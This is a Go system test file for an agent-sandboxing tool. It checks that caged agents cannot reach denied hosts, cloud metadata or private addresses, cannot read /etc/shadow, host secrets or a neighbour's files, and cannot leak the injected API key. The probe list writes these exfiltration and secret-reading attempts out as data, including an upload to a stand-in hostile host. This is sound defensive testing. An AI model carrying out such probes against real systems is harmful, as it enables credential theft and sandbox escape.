package system

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nixcage/nixcage/internal/systest"
	"github.com/nixcage/nixcage/internal/systest/probe"
	"github.com/nixcage/nixcage/internal/testenv"
)

// realSecret is what the gateway holds for the agents' API key. It must
// reach api.example.com and nothing else, and never be seen in a cage.
const realSecret = "sk-systest-REAL-0123456789abcdef0123456789"

// cageChecks is what every agent probes, whatever its backend. The test
// asserts each outcome in assertCage.
var cageChecks = []string{
	"id",
	"ls,/",
	"env,API_KEY",
	"env,HTTPS_PROXY",
	"write,/workspace/probe-wrote",
	"http,https://api.example.com/v1/echo,Authorization,Bearer @env:API_KEY@",
	"http,https://evil.example.org/upload",
	"http,https://other.example.net/leak,Authorization,Bearer @env:API_KEY@",
	"http,https://api.example.com:8443/port",
	"http,https://loopback.example.com/",
	"http,https://private.example.com/",
	"http,https://metadata.example.com/latest/meta-data/",
	"dial,tcp,203.0.113.10:443",
	"dial,tcp,192.0.2.1:443",
	"dial,udp,192.0.2.1:53",
	"dial,tcp,[2001:db8::1]:443",
	"raw",
	"packet",
	"read,/etc/shadow",
	"read,/etc/nixcage/secrets/api",
	"unix,/run/dbus/system_bus_socket",
	"read,/var/lib/nixcage/agents/neighbour/secret.txt",
	"dns,api.example.com",
	"dns,evil.example.org",
}

type agentSpec struct {
	name, backend string
	checks        []string
}

// cageConfig is the system tests' configuration: one policy, one API key
// bound to api.example.com, agents running the probe.
func cageConfig(agents ...agentSpec) string {
	var b strings.Builder
	b.WriteString(`egress_policy "systest" {
  allow   = ["api.example.com", "other.example.net", "loopback.example.com", "private.example.com", "metadata.example.com"]
  deny    = ["evil.example.org"]
  inspect = ["api.example.com", "other.example.net"]
}
`)
	for _, a := range agents {
		cmd, _ := json.Marshal(append([]string{"/usr/local/bin/cage-probe"}, a.checks...))
		fmt.Fprintf(&b, `
agent %q {
  backend = %q
  egress  = "systest"
  command = %s
  resources {
    memory = "256M"
    tasks  = 64
  }
  secret "api" {
    source = "/etc/nixcage/secrets/api"
    env    = "API_KEY"
    hosts  = ["api.example.com"]
  }
}
`, a.name, a.backend, cmd)
	}
	return b.String()
}

type cageEnv struct {
	m  *systest.Machine
	in *systest.Internet
}

// bootNixcage boots a machine with the fake internet and nixcage installed
// from a rendered config.
func bootNixcage(t *testing.T, agents ...agentSpec) *cageEnv {
	t.Helper()
	testenv.RequireSystem(t) // before building anything
	bins := systest.Binaries{
		"cagectl":    systest.BuildT(t, "./cmd/cagectl"),
		"cage-probe": systest.BuildT(t, probePkg),
	}
	bins["cage-egress"] = systest.BuildT(t, "./cmd/cage-egress")
	m, in, _ := nixcageMachine(t, 2*time.Minute, bins, cageConfig(agents...), map[string]string{"/etc/nixcage/secrets/api": realSecret}, nil)
	return &cageEnv{m: m, in: in}
}

// runAgent starts an agent whose command is the probe, waits for it to
// finish and returns its results by check.
func (e *cageEnv) runAgent(t *testing.T, agent string) map[string]probe.Result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	unit := systest.AgentUnit(agent)
	start := time.Now()
	defer func() { t.Logf("agent %s ran in %s", agent, time.Since(start).Round(time.Millisecond)) }()
	if _, err := e.m.Run(ctx, "systemctl", "start", unit); err != nil {
		diag := e.unitDiag(agent)
		t.Fatalf("start %s: %v\n%s", unit, err, diag)
	}
	st, err := e.m.WaitInactive(ctx, unit)
	if err != nil {
		diag := e.unitDiag(agent)
		t.Fatalf("%v\n%s", err, diag)
	}
	journal, err := e.m.Journal(ctx, unit)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := probe.Parse(journal)
	if err != nil {
		t.Fatal(err)
	}
	if st.Result != "success" || len(rs) == 0 {
		t.Fatalf("%s ended %s/%s (result %s) with %d probe results\n%s", unit, st.Active, st.Sub, st.Result, len(rs), e.unitDiag(agent))
	}
	got := map[string]probe.Result{}
	for _, r := range rs {
		got[r.Check] = r
	}
	return got
}

// unitDiag collects what an operator would look at when a cage fails.
func (e *cageEnv) unitDiag(agent string) string {
	ctx := context.Background()
	var b strings.Builder
	for _, u := range []string{"nixcage-netns@" + agent, "nixcage-prep@" + agent, systest.ProxySocket(agent), systest.DNSSocket(agent), systest.EgressUnit(agent), systest.AgentUnit(agent)} {
		st, _ := e.m.UnitState(ctx, u)
		j, _ := e.m.Run(ctx, "journalctl", "--no-pager", "-b", "-n", "30", "-u", u)
		fmt.Fprintf(&b, "== %s: %s/%s result=%s\n%s\n", u, st.Active, st.Sub, st.Result, j)
	}
	return b.String()
}

// auditRecords reads the gateway's JSONL audit for an agent.
func (e *cageEnv) auditRecords(t *testing.T, agent string) []map[string]any {
	t.Helper()
	data, err := e.m.ReadFile(systest.AuditLog(agent))
	if err != nil {
		t.Fatalf("audit log: %v", err)
	}
	var rs []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		if line == "" {
			continue
		}
		var r map[string]any
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		rs = append(rs, r)
	}
	return rs
}

// assertCage checks every outcome of cageChecks for one agent.
func (e *cageEnv) assertCage(t *testing.T, agent string, got map[string]probe.Result, identity func(id string) error) {
	t.Helper()
	defer func() {
		if t.Failed() {
			for c, r := range got {
				t.Logf("probe %s: %+v", c, r)
			}
		}
	}()
	res := func(c string) probe.Result {
		r, ok := got[c]
		if !ok {
			t.Fatalf("probe did not report %q", c)
		}
		return r
	}
	fails := func(c string, errnos ...string) {
		t.Helper()
		r := res(c)
		if r.OK {
			t.Errorf("%s: succeeded inside the cage (%s), want a refusal", c, r.Detail)
			return
		}
		if len(errnos) == 0 {
			return
		}
		for _, e := range errnos {
			if r.Errno == e {
				return
			}
		}
		t.Errorf("%s: errno %q (%s), want one of %v", c, r.Errno, r.Error, errnos)
	}

	// Identity: no capabilities, not the host's root.
	id := res("id").Detail
	if err := identity(id); err != nil {
		t.Errorf("agent identity: %v (%s)", err, id)
	}
	if !strings.Contains(id, "CapEff: 0000000000000000") {
		t.Errorf("agent has capabilities: %s", id)
	}
	// The cage's root is its own: the host's /boot, /home or /root are not in it.
	for _, n := range strings.Fields(res("ls,/").Detail) {
		if n == "boot" || n == "home" || n == "srv" || n == "media" {
			t.Errorf("the cage's / holds the host's /%s: %s", n, res("ls,/").Detail)
		}
	}
	if r := res("write,/workspace/probe-wrote"); !r.OK {
		t.Errorf("workspace not writable: %s", r.Error)
	}

	// The cage holds a placeholder of the real key's length, never the key.
	placeholder := res("env,API_KEY").Detail
	if placeholder == "" || placeholder == realSecret || len(placeholder) != len(realSecret) {
		t.Errorf("API_KEY in the cage = %q; want a placeholder as long as the real value", placeholder)
	}
	if p := res("env,HTTPS_PROXY").Detail; p != "http://127.0.0.1:3128" {
		t.Errorf("HTTPS_PROXY = %q", p)
	}

	// Allowed request: reaches the upstream with the real key; the response
	// the cage sees has it redacted back to the placeholder.
	api := res("http,https://api.example.com/v1/echo,Authorization,Bearer @env:API_KEY@")
	if !api.OK || api.Status != 200 {
		t.Errorf("allowed request failed: status %d err %q body %q", api.Status, api.Error, api.Body)
	}
	if strings.Contains(api.Body, realSecret) {
		t.Errorf("the real key came back into the cage: %s", api.Body)
	}
	if !strings.Contains(api.Body, "Bearer "+placeholder) {
		t.Errorf("echoed Authorization is not the placeholder: %s", api.Body)
	}
	// Denied request: refused by the gateway.
	if r := res("http,https://evil.example.org/upload"); r.OK && r.Status < 400 {
		t.Errorf("request to a denied host succeeded: %+v", r)
	}

	// The placeholder sent to a host it is not bound to: allowed host, but
	// the gateway must not swap in the real key there (checked upstream below).
	leak := res("http,https://other.example.net/leak,Authorization,Bearer @env:API_KEY@")
	t.Logf("placeholder to an unbound host: status %d err %q", leak.Status, leak.Error)

	// Allowed names that resolve to loopback, RFC 1918 or the metadata
	// address, and an allowed host on a port the policy does not list: the
	// gateway refuses all of them and audits each as blocked.
	for _, c := range []string{"http,https://api.example.com:8443/port", "http,https://loopback.example.com/", "http,https://private.example.com/", "http,https://metadata.example.com/latest/meta-data/"} {
		if r := res(c); r.OK && r.Status < 400 {
			t.Errorf("%s: succeeded (status %d), want a refusal", c, r.Status)
		}
	}

	// No route: direct connections fail in the kernel, to the upstream's
	// real address too.
	for _, c := range []string{"dial,tcp,203.0.113.10:443", "dial,tcp,192.0.2.1:443", "dial,udp,192.0.2.1:53", "dial,tcp,[2001:db8::1]:443"} {
		fails(c, "ENETUNREACH")
	}
	fails("raw", "EPERM", "EAFNOSUPPORT", "EACCES")
	fails("packet", "EPERM", "EAFNOSUPPORT", "EACCES")

	// Host files, the bus, other workspaces.
	fails("read,/etc/shadow")
	fails("read,/etc/nixcage/secrets/api")
	fails("unix,/run/dbus/system_bus_socket")
	fails("read,/var/lib/nixcage/agents/neighbour/secret.txt")

	// DNS through the gateway: allowed names only.
	if r := res("dns,api.example.com"); !r.OK || r.Detail != "203.0.113.10" {
		t.Errorf("dns api.example.com = %q (%s), want 203.0.113.10", r.Detail, r.Error)
	}
	fails("dns,evil.example.org")

	// What left: the upstream got the real key on the allowed request and
	// nothing at all from the denied host.
	reqs, err := e.in.Requests()
	if err != nil {
		t.Fatal(err)
	}
	var sawAPI bool
	for _, r := range reqs {
		switch {
		case r.Kind == "https" && r.Host == "api.example.com" && r.Path == "/v1/echo":
			sawAPI = true
			if got := strings.Join(r.Headers["Authorization"], ","); got != "Bearer "+realSecret {
				t.Errorf("upstream got Authorization %q, want the real key injected", got)
			}
		case r.Host == "evil.example.org" || r.SNI == "evil.example.org" || strings.HasPrefix(r.Name, "evil.example.org"):
			t.Errorf("the denied host was contacted: %+v", r)
		}
		if r.Host != "api.example.com" && strings.Contains(fmt.Sprint(r.Headers), realSecret) {
			t.Errorf("the real key went to %s: %+v", r.Host, r)
		}
		if placeholder != "" && (strings.Contains(r.Body, placeholder) || strings.Contains(fmt.Sprint(r.Headers), placeholder)) {
			t.Logf("a placeholder reached %s (flag-only policy?): %+v", r.Host, r)
		}
	}
	if !sawAPI {
		t.Errorf("the allowed request never reached the upstream: %+v", reqs)
	}

	// Audit: the denied request is recorded as blocked, the allowed one as
	// allowed with the secret injected, and no record holds the key.
	audit := e.auditRecords(t, agent)
	blockedHost := map[string]bool{}
	for _, r := range audit {
		if r["decision"] == "blocked" {
			blockedHost[fmt.Sprint(r["host"])+":"+fmt.Sprint(r["port"])] = true
		}
	}
	for _, hp := range []string{"api.example.com:8443", "loopback.example.com:443", "private.example.com:443", "metadata.example.com:443"} {
		if !blockedHost[hp] {
			t.Errorf("no blocked audit record for %s; blocked: %v", hp, blockedHost)
		}
	}
	var blocked, injected bool
	for _, r := range audit {
		line, _ := json.Marshal(r)
		if strings.Contains(string(line), realSecret) {
			t.Errorf("audit record holds the real key: %s", line)
		}
		switch {
		case r["host"] == "evil.example.org" && r["decision"] == "blocked":
			blocked = true
		case r["host"] == "api.example.com" && r["decision"] == "allowed" && r["path"] == "/v1/echo":
			inj, _ := json.Marshal(r["secrets_injected"])
			injected = strings.Contains(string(inj), `"api"`)
		case r["host"] == "other.example.net" && r["path"] == "/leak":
			if r["decision"] == "allowed" {
				t.Errorf("placeholder sent to an unbound host was neither flagged nor blocked: %s", line)
			}
			if inj, _ := json.Marshal(r["secrets_injected"]); strings.Contains(string(inj), `"api"`) {
				t.Errorf("secret injected for an unbound host: %s", line)
			}
		}
	}
	if !blocked || !injected {
		t.Errorf("audit lacks a blocked evil.example.org record (%v) or an allowed /v1/echo record with secret api injected (%v):\n%v", blocked, injected, audit)
	}
}

// dynamicUser accepts an agent running as a DynamicUser= account.
func dynamicUser(id string) error {
	m := regexp.MustCompile(`Uid: (\d+)`).FindStringSubmatch(id)
	if m == nil {
		return fmt.Errorf("no uid")
	}
	if uid, _ := strconv.Atoi(m[1]); uid < 61184 || uid > 65519 {
		return fmt.Errorf("uid %d is not a dynamic user (61184-65519)", uid)
	}
	return nil
}

// userNamespace accepts an agent whose users map to an unprivileged range of
// the host (nspawn --private-users, podman --userns).
func userNamespace(id string) error {
	m := regexp.MustCompile(`uid_map: (\d+) (\d+) (\d+)`).FindStringSubmatch(id)
	if m == nil {
		return fmt.Errorf("no uid map")
	}
	if outer, _ := strconv.Atoi(m[2]); m[1] != "0" || outer == 0 || m[3] == "4294967295" {
		return fmt.Errorf("uid map %s %s %s is not a private range", m[1], m[2], m[3])
	}
	return nil
}

// neighbour is a second agent that leaves a file in its own workspace.
var neighbour = agentSpec{name: "neighbour", backend: "service", checks: []string{"write,/workspace/secret.txt"}}

func runCageScenario(t *testing.T, backend string, identity func(string) error) (*cageEnv, string) {
	agent := map[string]string{"service": "svc", "nspawn": "nsp", "podman": "pod"}[backend]
	e := bootNixcage(t, agentSpec{name: agent, backend: backend, checks: cageChecks}, neighbour)
	e.runAgent(t, neighbour.name)
	got := e.runAgent(t, agent)
	e.assertCage(t, agent, got, identity)
	return e, agent
}

// TestServiceCage runs the probe as a service-backend agent.
func TestServiceCage(t *testing.T) {
	e, agent := runCageScenario(t, "service", dynamicUser)
	// The workspace write landed on the host.
	if _, err := e.m.ReadFile("/var/lib/nixcage/agents/" + agent + "/probe-wrote"); err != nil {
		t.Errorf("workspace write not visible on the host: %v", err)
	}
}

// TestNspawnCage runs the probe under the nspawn backend.
func TestNspawnCage(t *testing.T) {
	runCageScenario(t, "nspawn", userNamespace)
}

// TestPodmanCage runs the probe under the podman backend. The container
// runs inside the agent unit's cgroup with the unit's limits (no cgroup
// controllers needed in the machine) and the unit's rlimits.
func TestPodmanCage(t *testing.T) {
	e, agent := runCageScenario(t, "podman", userNamespace)
	// The container lives in the unit's cgroup, so the unit's limits, IP
	// filters, kill and freeze reach it.
	unit := systest.AgentUnit(agent)
	cg := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "ControlGroup", unit))
	if out := e.m.MustRun(t, "sh", "-c", "ls /sys/fs/cgroup/machine.slice 2>/dev/null || true"); strings.Contains(out, "libpod") {
		t.Errorf("a podman container runs outside the agent unit (%s): machine.slice holds %s", cg, out)
	}
	// A clean end leaves no container: podman's --rm removed it, so the
	// unit's ExecStopPost= skips its second podman (start latency).
	name := "nixcage-" + agent
	exists := "CONTAINERS_CONF=/etc/nixcage/containers.conf podman container exists " + name
	if out := e.m.MustShell(t, exists+" && echo left || true"); strings.TrimSpace(out) == "left" {
		t.Errorf("container %s left behind after a clean end", name)
	}
	// A podman killed while its container runs leaves it behind; then the
	// ExecStopPost= removes it. The container runs until killed (the
	// probe alone can end before a poll sees it).
	e.agentCommand(t, agent, " /etc/nixcage/cage-seal -- ", "/bin/sleep 60")
	defer e.agentCommand(t, agent, "", "")
	e.m.MustRun(t, "systemctl", "start", "--no-block", unit)
	caught := e.m.MustShell(t, "for i in $(seq 200); do "+exists+" && { echo running; exit 0; }; sleep 0.05; done")
	if strings.TrimSpace(caught) != "running" {
		t.Fatalf("container %s never seen running", name)
	}
	e.m.MustRun(t, "systemctl", "kill", "--kill-who=main", "--signal=KILL", unit)
	if _, err := e.m.WaitInactive(context.Background(), unit); err != nil {
		t.Fatal(err)
	}
	if code := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "ExecMainCode", unit)); code != "2" {
		t.Logf("podman ended with code %s (2 = killed) before the kill reached it", code)
	}
	if out := e.m.MustShell(t, exists+" && echo left || true"); strings.TrimSpace(out) == "left" {
		t.Errorf("container %s left behind after podman was killed", name)
	}
	e.m.MustRun(t, "systemctl", "stop", unit) // no restart after the test
}

// probeInCageNetns runs the probe as a fresh dynamic user in an agent's
// network namespace with the cage's proxy settings: what any process of that
// cage could do, independent of the agent unit's lifetime.
func (e *cageEnv) probeInCageNetns(t *testing.T, agent string, checks ...string) map[string]probe.Result {
	t.Helper()
	args := []string{"systemd-run", "--quiet", "--wait", "--pipe",
		"-p", "DynamicUser=yes", "-p", "NetworkNamespacePath=/run/netns/nixcage-" + agent,
		"-p", "Environment=HTTPS_PROXY=http://127.0.0.1:3128", "-p", "Environment=SSL_CERT_FILE=/var/lib/nixcage/egress/" + agent + "/bundle.crt",
		"/usr/local/bin/cage-probe"}
	got, err := probe.ParseByCheck(e.m.MustRun(t, append(args, checks...)...))
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// TestGatewayDownFailsClosed: killing the gateway gives a cage no new way
// out, and stopping it (sockets included) leaves the cage with nothing.
func TestGatewayDownFailsClosed(t *testing.T) {
	e := bootNixcage(t, agentSpec{name: "svc", backend: "service", checks: []string{"http,https://api.example.com/before"}})
	if r := e.runAgent(t, "svc")["http,https://api.example.com/before"]; !r.OK || r.Status != 200 {
		t.Fatalf("baseline request failed: %+v", r)
	}
	checks := []string{"dial,tcp,127.0.0.1:3128", "http,https://api.example.com/after", "dial,tcp,203.0.113.10:443", "dial,udp,203.0.113.53:53"}
	unreachable := func(got map[string]probe.Result, when string) {
		t.Helper()
		for _, c := range checks[2:] {
			if r := got[c]; r.OK || r.Errno != "ENETUNREACH" {
				t.Errorf("%s: %s: ok=%v errno=%q, want ENETUNREACH", when, c, r.OK, r.Errno)
			}
		}
		if links := e.m.MustRun(t, "ip", "-n", "nixcage-svc", "-o", "link"); strings.Count(strings.TrimSpace(links), "\n") != 0 {
			t.Errorf("%s: cage namespace has more than lo: %s", when, links)
		}
		if r := got["http,https://api.example.com/after"]; !r.OK || r.Status != 200 {
			t.Logf("%s: request through the restarted gateway: %+v", when, r)
		}
	}

	// SIGKILL the gateway: systemd still holds the listening sockets (and
	// restarts the service); the cage gains nothing.
	pid := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "MainPID", systest.EgressUnit("svc")))
	if pid == "0" || pid == "" {
		t.Fatalf("gateway not running after a request")
	}
	e.m.MustRun(t, "kill", "-KILL", pid)
	unreachable(e.probeInCageNetns(t, "svc", checks...), "gateway killed")

	// A process that stays in the cage's namespace while the gateway and its
	// sockets are stopped: the proxy port is closed, nothing else exists.
	e.m.MustRun(t, "systemd-run", "--quiet", "--unit=systest-pin", "-p", "DynamicUser=yes",
		"-p", "NetworkNamespacePath=/run/netns/nixcage-svc", "/usr/local/bin/cage-probe", "sleep,10m")
	pin := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "MainPID", "systest-pin.service"))
	before, err := e.in.Requests()
	if err != nil {
		t.Fatal(err)
	}
	e.m.MustRun(t, "systemctl", "stop", systest.ProxySocket("svc"), systest.DNSSocket("svc"), systest.EgressUnit("svc"))
	out := e.m.MustRun(t, append([]string{"nsenter", "--target", pin, "--net", "--", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
		"env", "HTTPS_PROXY=http://127.0.0.1:3128", "/usr/local/bin/cage-probe"}, checks...)...)
	rs, err := probe.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]probe.Result{}
	for _, r := range rs {
		got[r.Check] = r
	}
	if r := got["dial,tcp,127.0.0.1:3128"]; r.OK || r.Errno != "ECONNREFUSED" {
		t.Errorf("proxy port with the gateway stopped: ok=%v errno=%q, want ECONNREFUSED", r.OK, r.Errno)
	}
	if r := got["http,https://api.example.com/after"]; r.OK {
		t.Errorf("request succeeded with the gateway stopped: %+v", r)
	}
	for _, c := range checks[2:] {
		if r := got[c]; r.OK || r.Errno != "ENETUNREACH" {
			t.Errorf("gateway stopped: %s: ok=%v errno=%q, want ENETUNREACH", c, r.OK, r.Errno)
		}
	}
	after, err := e.in.Requests()
	if err != nil {
		t.Fatal(err)
	}
	if len(after) != len(before) {
		t.Errorf("the fake internet received %d new requests with the gateway stopped: %+v", len(after)-len(before), after[len(before):])
	}
}

// TestResourceLimits checks the limits a service cage runs under: rlimits
// always, and the cgroup limits when this host gives the test machine the
// controllers to enforce them.
func TestResourceLimits(t *testing.T) {
	checks := []string{"limit,Max core file size", "cgroup,memory.max", "cgroup,pids.max"}
	e := bootNixcage(t, agentSpec{name: "svc", backend: "service", checks: checks})
	got := e.runAgent(t, "svc")
	if r := got["limit,Max core file size"]; !r.OK || r.Detail != "0 0" {
		t.Errorf("core dumps in the cage: limit %q (%s), want 0 0", r.Detail, r.Error)
	}
	// What systemd was told (the config says memory 256M, tasks 64).
	for prop, want := range map[string]string{"MemoryMax": "268435456", "TasksMax": "64"} {
		if got := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", prop, systest.AgentUnit("svc"))); got != want {
			t.Errorf("%s = %s, want %s", prop, got, want)
		}
	}
	ctrl := strings.Fields(e.m.MustRun(t, "cat", "/sys/fs/cgroup/cgroup.controllers"))
	has := func(c string) bool {
		for _, x := range ctrl {
			if x == c {
				return true
			}
		}
		return false
	}
	if !has("memory") || !has("pids") {
		t.Skipf("enforcement not checkable here: the test machine has cgroup controllers %v (the host binds memory/pids to cgroup v1)", ctrl)
	}
	if r := got["cgroup,memory.max"]; r.Detail != "268435456" {
		t.Errorf("memory.max in the cage's cgroup = %q (%s), want 268435456", r.Detail, r.Error)
	}
	if r := got["cgroup,pids.max"]; r.Detail != "64" {
		t.Errorf("pids.max in the cage's cgroup = %q (%s), want 64", r.Detail, r.Error)
	}
}
